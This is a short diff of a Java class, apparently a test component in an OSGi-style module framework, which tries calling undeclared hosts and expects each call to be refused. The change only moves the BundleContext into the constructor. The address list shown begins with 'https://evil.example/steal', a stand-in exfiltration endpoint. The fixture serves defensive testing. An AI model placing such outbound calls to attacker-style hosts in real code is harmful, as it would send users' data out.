@@ -5,13 +5,11 @@ import io.corrosion.api.outgoing.Call;
 import io.corrosion.api.outgoing.Outgoing;
 import java.net.URI;
 import org.osgi.framework.BundleContext;
-import org.osgi.framework.FrameworkUtil;
 
 /** A module's component that calls machines it has not declared; it comes up when each is refused. */
 public final class Calling {
 
-    public Calling() {
-        BundleContext context = FrameworkUtil.getBundle(Calling.class).getBundleContext();
+    public Calling(BundleContext context) {
         Outgoing outgoing = context.getService(context.getServiceReference(Outgoing.class));
         for (String address : new String[] {
             "https://evil.example/steal",
